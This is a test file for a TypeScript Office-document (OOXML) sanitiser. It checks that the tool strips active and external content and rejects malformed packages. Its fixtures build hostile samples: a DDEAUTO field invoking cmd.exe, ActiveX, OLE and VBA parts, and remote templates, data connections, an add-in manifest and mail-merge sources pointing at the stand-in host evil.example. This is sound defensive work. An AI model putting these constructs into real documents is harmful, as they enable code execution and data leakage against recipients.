/**
 * OOXML 無害化 (MAL-07): active or external content that reached LGWAN through ways around the
 * engine's rules (altChunk, controls stored anywhere, relationship parts spelt .RELS, data connections
 * and mail merge data sources).
 */
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { OoxmlSanitizer } from './ooxml.sanitizer.js';
import type { SanitizeOutcome } from './sanitizer.js';
import { runEngine, sourceOf, unzipText } from '../../test/support/sanitize.js';
import { W, zipOf } from '../../test/support/office-fixtures.js';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MS_REL = 'http://schemas.microsoft.com/office/2006/relationships';
const SML = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const MC = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const DOC_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const SHEET_MAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const rels = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
const types = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${body}</Types>`;
const wordRoot = rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`);
const xlRoot = rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/>`);
const dde = '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>';
const ddeField = `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>${dde}</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

async function sanitise(name: string, pkg: Buffer): Promise<{ outcome: SanitizeOutcome; parts: Map<string, string> }> {
  const { outcome, out } = await runEngine(new OoxmlSanitizer(), sourceOf(name, pkg, 'application/zip'));
  const parts = await unzipText(out);
  // Whatever was taken out, the result opens cleanly: every XML part is well-formed.
  for (const [part, xml] of parts) if (/\.(xml|rels)$/i.test(part)) expect(XMLValidator.validate(xml), part).toBe(true);
  return { outcome, parts };
}

describe('OOXML 無害化: ways around the rules (MAL-07)', () => {
  it('drops altChunk parts (an inner docx with a DDEAUTO field, an RTF with an OLE object) and their w:altChunk elements', async () => {
    const inner = await zipOf({
      '[Content_Types].xml': types(`<Override PartName="/word/document.xml" ContentType="${DOC_MAIN}"/>`),
      '_rels/.rels': wordRoot,
      'word/document.xml': `<w:document ${W}><w:body>${ddeField}</w:body></w:document>`,
    });
    const pkg = await zipOf({
      '[Content_Types].xml': types(
        `<Override PartName="/word/document.xml" ContentType="${DOC_MAIN}"/><Override PartName="/word/chunk.docx" ContentType="${DOC_MAIN}"/><Default Extension="rtf" ContentType="application/rtf"/>`,
      ),
      '_rels/.rels': wordRoot,
      'word/document.xml': `<w:document ${W}><w:body><w:altChunk r:id="rId9"/><w:altChunk r:id="rId10"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
      'word/_rels/document.xml.rels': rels(
        `<Relationship Id="rId9" Type="${REL}/aFChunk" Target="chunk.docx"/><Relationship Id="rId10" Type="${REL}/aFChunk" Target="/word/chunk.rtf"/>`,
      ),
      'word/chunk.docx': inner,
      'word/chunk.rtf': '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}',
    });
    const { outcome, parts } = await sanitise('a.docx', pkg);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: expect.arrayContaining([
        { kind: 'ole_object', count: 1, detail: 'word/chunk.docx' },
        { kind: 'ole_object', count: 1, detail: 'word/chunk.rtf' },
      ]),
    });
    expect([...parts.keys()].sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/_rels/document.xml.rels',
      'word/document.xml',
    ]);
    const doc = parts.get('word/document.xml')!;
    expect(doc).not.toMatch(/altChunk|matchSrc/);
    expect(doc).toContain('<w:t>本文</w:t>');
    expect(parts.get('word/_rels/document.xml.rels')).not.toMatch(/aFChunk|chunk/);
    expect(parts.get('[Content_Types].xml')).not.toContain('chunk.docx');
  });

  it('drops ActiveX controls by relationship type and by content type, wherever they are stored, with their w:control elements', async () => {
    const pkg = await zipOf({
      '[Content_Types].xml': types(
        `<Override PartName="/word/document.xml" ContentType="${DOC_MAIN}"/><Override PartName="/word/media/ctl1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>` +
          // Parts no relationship names, judged by their type alone.
          `<Default Extension="ocx" ContentType="application/vnd.ms-office.activeX"/><Override PartName="/word/media/blob.dat" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/media/o.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>`,
      ),
      '_rels/.rels': wordRoot,
      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:control r:id="rId6" w:name="WebBrowser1"/></w:r><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
      'word/_rels/document.xml.rels': rels(
        `<Relationship Id="rId6" Type="${REL}/control" Target="media/ctl1.xml"/><Relationship Id="rId7" Type="${REL}/image" Target="media/image1.png"/>`,
      ),
      'word/media/ctl1.xml': `<ax:ocx ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}" ax:persistence="persistStorage" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="${REL}"/>`,
      'word/media/_rels/ctl1.xml.rels': rels(
        `<Relationship Id="rId1" Type="${MS_REL}/activeXControlBinary" Target="ctl1.data"/>`,
      ),
      'word/media/ctl1.data': 'ACTIVEX BINARY',
      'word/media/x.ocx': 'ACTIVEX BINARY',
      'word/media/blob.dat': 'VBA PROJECT',
      'word/media/o.bin': 'OLE',
      'word/media/image1.png': 'PNGDATA',
    });
    const { outcome, parts } = await sanitise('e.docx', pkg);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: expect.arrayContaining([
        { kind: 'activex', count: 1, detail: 'word/media/ctl1.xml' },
        { kind: 'activex', count: 1, detail: 'word/media/ctl1.data' },
        { kind: 'activex', count: 1, detail: 'word/media/x.ocx' },
        { kind: 'vba_project', count: 1, detail: 'word/media/blob.dat' },
        { kind: 'ole_object', count: 1, detail: 'word/media/o.bin' },
      ]),
    });
    for (const gone of ['ctl1.xml', '_rels/ctl1.xml.rels', 'ctl1.data', 'x.ocx', 'blob.dat', 'o.bin'])
      expect(parts.has(`word/media/${gone}`), gone).toBe(false);
    expect(parts.get('word/media/image1.png')).toBe('PNGDATA');
    expect(parts.get('word/document.xml')).not.toContain('w:control');
    expect(parts.get('word/document.xml')).toContain('<w:t>本文</w:t>');
    const docRels = parts.get('word/_rels/document.xml.rels')!;
    expect(docRels).not.toMatch(/\/control"|ctl1/);
    expect(docRels).toContain('media/image1.png');
    expect(parts.get('[Content_Types].xml')).not.toMatch(/activeX|vbaProject|oleObject|ctl1|blob|o\.bin/);
  });

  it('drops a worksheet control and the controls list it leaves empty (xlsx)', async () => {
    const control = `<control shapeId="1025" r:id="rId3" name="CommandButton1"><controlPr defaultSize="0" r:id="rId4"/></control>`;
    const pkg = await zipOf({
      '[Content_Types].xml': types(`<Override PartName="/xl/workbook.xml" ContentType="${SHEET_MAIN}"/>`),
      '_rels/.rels': xlRoot,
      'xl/workbook.xml': `<workbook xmlns="${SML}" xmlns:r="${REL}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': rels(`<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>`),
      'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SML}" xmlns:r="${REL}" xmlns:mc="${MC}"><sheetData/><controls><mc:AlternateContent><mc:Choice Requires="x14">${control}</mc:Choice><mc:Fallback>${control.replace(/<controlPr[^>]*\/>/, '')}</mc:Fallback></mc:AlternateContent></controls></worksheet>`,
      'xl/worksheets/_rels/sheet1.xml.rels': rels(
        `<Relationship Id="rId3" Type="${REL}/control" Target="../ctrls/c1.xml"/><Relationship Id="rId4" Type="${REL}/image" Target="../media/image1.emf"/>`,
      ),
      'xl/ctrls/c1.xml':
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
      'xl/media/image1.emf': 'EMF',
    });
    const { outcome, parts } = await sanitise('c.xlsx', pkg);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: [{ kind: 'activex', count: 1, detail: 'xl/ctrls/c1.xml' }],
    });
    expect(parts.has('xl/ctrls/c1.xml')).toBe(false);
    expect(parts.get('xl/worksheets/sheet1.xml')).toBe(
      `<worksheet xmlns="${SML}" xmlns:r="${REL}" xmlns:mc="${MC}"><sheetData/></worksheet>`,
    );
    expect(parts.get('xl/worksheets/_rels/sheet1.xml.rels')).not.toContain('/control"');
  });

  it('reads relationship parts whatever the case of their name (.RELS, _RELS/)', async () => {
    const pkg = await zipOf({
      '[Content_Types].xml': types(`<Override PartName="/word/document.xml" ContentType="${DOC_MAIN}"/>`),
      '_rels/.rels': wordRoot,
      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="s1" r:id="rId3"/></w:object></w:r></w:p></w:body></w:document>`,
      'word/_RELS/document.xml.rels': rels(
        `<Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="${REL}/oleObject" Target="file://evil.example/share/x.docx" TargetMode="External"/>`,
      ),
      'word/settings.xml': `<w:settings ${W}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
      'word/_rels/settings.xml.RELS': rels(
        `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/>`,
      ),
    });
    const { outcome, parts } = await sanitise('f.docx', pkg);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: expect.arrayContaining([
        { kind: 'external_relationship', count: 1, detail: 'attachedTemplate: \\\\evil.example\\share\\t.dotm' },
        { kind: 'external_relationship', count: 1, detail: 'oleObject: file://evil.example/share/x.docx' },
      ]),
    });
    expect(parts.get('word/_rels/settings.xml.RELS')).not.toContain('Relationship ');
    expect(parts.get('word/_RELS/document.xml.rels')).not.toContain('evil');
    expect(parts.get('word/settings.xml')).not.toContain('attachedTemplate');
    expect(parts.get('word/settings.xml')).toContain('<w:zoom w:percent="100"/>');
    expect(parts.get('word/document.xml')).not.toContain('OLEObject');
  });

  it('judges a part by its type and any case of its path: a main document stored elsewhere or under Word/ loses its DDE fields', async () => {
    for (const [main, extra] of [
      ['content/main.xml', `<Override PartName="/content/main.xml" ContentType="${DOC_MAIN}"/>`],
      ['Word/Document.xml', ''],
    ] as const) {
      const pkg = await zipOf({
        '[Content_Types].xml': types(extra),
        '_rels/.rels': rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="${main}"/>`),
        [main]: `<w:document ${W}><w:body>${ddeField}</w:body></w:document>`,
      });
      const { outcome, parts } = await sanitise('m.docx', pkg);
      expect(outcome, main).toMatchObject({
        result: 'sanitised_with_loss',
        removed: [{ kind: 'dde_field', count: 1, detail: 'DDEAUTO' }],
      });
      expect(parts.get(main), main).not.toContain('cmd.exe');
      expect(parts.get(main), main).toContain('結果');
    }
  });

  it('refuses a package naming one part twice in different case [MAL-07]', async () => {
    for (const [a, b] of [
      ['word/document.xml', 'Word/Document.xml'],
      ['word/_rels/document.xml.rels', 'word/_rels/document.xml.RELS'],
    ]) {
      const pkg = await zipOf({
        '[Content_Types].xml': types(''),
        '_rels/.rels': wordRoot,
        [a!]: a!.endsWith('.rels') ? rels('') : `<w:document ${W}/>`,
        [b!]: b!.toLowerCase().endsWith('.rels') ? rels('') : `<w:document ${W}/>`,
      });
      await expect(sanitise('d.docx', pkg), b).rejects.toMatchObject({ name: 'SanitizeError', code: 'malformed' });
    }
  });

  it('refuses elements nested deeper than any Office part, before the parser slows down on them [MAL-05]', async () => {
    const pkg = await zipOf({
      '[Content_Types].xml': types(''),
      'word/settings.xml': `<w:settings ${W}>${'<w:mailMerge>'.repeat(30_000)}`,
    });
    const started = Date.now();
    await expect(sanitise('n.docx', pkg)).rejects.toMatchObject({
      name: 'SanitizeError',
      code: 'limit',
      message: expect.stringContaining('word/settings.xml'),
    });
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('drops external data connections and query tables, wherever they are stored (xlsx)', async () => {
    const pkg = await zipOf({
      '[Content_Types].xml': types(
        `<Override PartName="/xl/workbook.xml" ContentType="${SHEET_MAIN}"/><Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/><Override PartName="/xl/data/q.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml"/>`,
      ),
      '_rels/.rels': xlRoot,
      'xl/workbook.xml': `<workbook xmlns="${SML}" xmlns:r="${REL}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': rels(
        `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId3" Type="${REL}/connections" Target="connections.xml"/><Relationship Id="rId4" Type="${REL}/connections" Target="other/conn2.xml"/>`,
      ),
      'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SML}"><sheetData/></worksheet>`,
      'xl/worksheets/_rels/sheet1.xml.rels': rels(
        `<Relationship Id="rId1" Type="${REL}/queryTable" Target="../queryTables/queryTable1.xml"/>`,
      ),
      'xl/connections.xml': `<connections xmlns="${SML}"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://evil.example/data"/></connection></connections>`,
      'xl/other/conn2.xml': `<connections xmlns="${SML}"><connection id="2" name="o" type="1" odcFile="\\\\evil.example\\share\\x.odc"/></connections>`,
      'xl/queryTables/queryTable1.xml': `<queryTable xmlns="${SML}" name="q" connectionId="1" refreshOnLoad="1"/>`,
      'xl/data/q.xml': `<queryTable xmlns="${SML}" name="q2" connectionId="2"/>`,
    });
    const { outcome, parts } = await sanitise('g.xlsx', pkg);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: expect.arrayContaining(
        ['xl/connections.xml', 'xl/other/conn2.xml', 'xl/queryTables/queryTable1.xml', 'xl/data/q.xml'].map((detail) => ({
          kind: 'external_relationship',
          count: 1,
          detail,
        })),
      ),
    });
    expect([...parts.keys()].sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/workbook.xml',
      'xl/worksheets/_rels/sheet1.xml.rels',
      'xl/worksheets/sheet1.xml',
    ]);
    expect(parts.get('xl/_rels/workbook.xml.rels')).not.toMatch(/connections|conn2/);
    expect(parts.get('xl/worksheets/_rels/sheet1.xml.rels')).not.toContain('queryTable');
    expect(parts.get('[Content_Types].xml')).not.toMatch(/connections|queryTable/);
  });

  it('drops Office web add-ins (task panes loading a manifest from anywhere)', async () => {
    const WE = 'http://schemas.microsoft.com/office/2011/relationships';
    const pkg = await zipOf({
      '[Content_Types].xml': types(
        `<Override PartName="/word/document.xml" ContentType="${DOC_MAIN}"/><Override PartName="/word/webextensions/taskpanes.xml" ContentType="application/vnd.ms-office.webextensiontaskpanes+xml"/><Override PartName="/word/webextensions/webextension1.xml" ContentType="application/vnd.ms-office.webextension+xml"/>`,
      ),
      '_rels/.rels': rels(
        `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/><Relationship Id="rId9" Type="${WE}/webextensiontaskpanes" Target="word/webextensions/taskpanes.xml"/>`,
      ),
      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
      'word/webextensions/taskpanes.xml': `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11" xmlns:r="${REL}"><wetp:taskpane visibility="1" dockstate="right"><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>`,
      'word/webextensions/_rels/taskpanes.xml.rels': rels(
        `<Relationship Id="rId1" Type="${WE}/webextension" Target="webextension1.xml"/>`,
      ),
      'word/webextensions/webextension1.xml': `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}"><we:reference id="wa000000001" version="1.0.0.0" store="https://evil.example/manifest.xml" storeType="Uploaded"/></we:webextension>`,
    });
    const { outcome, parts } = await sanitise('addin.docx', pkg);
    expect(outcome.result).toBe('sanitised_with_loss');
    expect([...parts.keys()].sort()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/document.xml']);
    expect(parts.get('_rels/.rels')).not.toContain('webextension');
  });

  it('removes a Word mail merge data source: w:mailMerge and its relationships, internal or external', async () => {
    const pkg = await zipOf({
      '[Content_Types].xml': types(`<Override PartName="/word/document.xml" ContentType="${DOC_MAIN}"/>`),
      '_rels/.rels': wordRoot,
      'word/document.xml': `<w:document ${W}><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`,
      'word/_rels/document.xml.rels': rels(`<Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/>`),
      'word/settings.xml': `<w:settings ${W}><w:zoom w:percent="100"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\share\\x.accdb"/><w:query w:val="SELECT * FROM \`t\`"/><w:dataSource r:id="rId1"/><w:headerSource r:id="rId2"/><w:odso><w:recipientData r:id="rId3"/></w:odso></w:mailMerge><w:defaultTabStop w:val="840"/></w:settings>`,
      'word/_rels/settings.xml.rels': rels(
        `<Relationship Id="rId1" Type="${REL}/mailMergeSource" Target="file:///\\\\evil.example\\share\\x.accdb" TargetMode="External"/>` +
          `<Relationship Id="rId2" Type="${REL}/mailMergeHeaderSource" Target="header.docx"/>` +
          `<Relationship Id="rId3" Type="${REL}/recipientData" Target="recipientData.xml"/>`,
      ),
      'word/header.docx': 'HEADER SOURCE',
      'word/recipientData.xml': '<w:recipients xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    });
    const { outcome, parts } = await sanitise('mm.docx', pkg);
    expect(outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: expect.arrayContaining([
        { kind: 'external_relationship', count: 1, detail: 'mailMerge' },
        { kind: 'external_relationship', count: 1, detail: 'word/header.docx' },
        { kind: 'external_relationship', count: 1, detail: 'word/recipientData.xml' },
      ]),
    });
    expect(parts.has('word/header.docx')).toBe(false);
    expect(parts.has('word/recipientData.xml')).toBe(false);
    expect(parts.get('word/settings.xml')).toBe(
      `<w:settings ${W}><w:zoom w:percent="100"/><w:defaultTabStop w:val="840"/></w:settings>`,
    );
    expect(parts.get('word/_rels/settings.xml.rels')).not.toContain('Relationship ');

    // Without any relationship (connection string only), and spelt in a form the edit does not know:
    // removed, or the file fails.
    const bare = await zipOf({
      '[Content_Types].xml': types(''),
      'word/settings.xml': `<w:settings ${W}><w:mailMerge><w:connectString w:val="DSN=evil"/></w:mailMerge></w:settings>`,
    });
    const plain = await sanitise('b.docx', bare);
    expect(plain.outcome).toMatchObject({
      result: 'sanitised_with_loss',
      removed: [{ kind: 'external_relationship', detail: 'mailMerge' }],
    });
    expect(plain.parts.get('word/settings.xml')).toBe(`<w:settings ${W}></w:settings>`);
    const odd = await zipOf({
      '[Content_Types].xml': types(''),
      'word/settings.xml': `<w:settings ${W} xmlns:w-x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w-x:mailMerge><w-x:connectString w-x:val="DSN=evil"/></w-x:mailMerge></w:settings>`,
    });
    await expect(sanitise('o.docx', odd)).rejects.toMatchObject({ name: 'SanitizeError', code: 'unsupported' });
  });
});
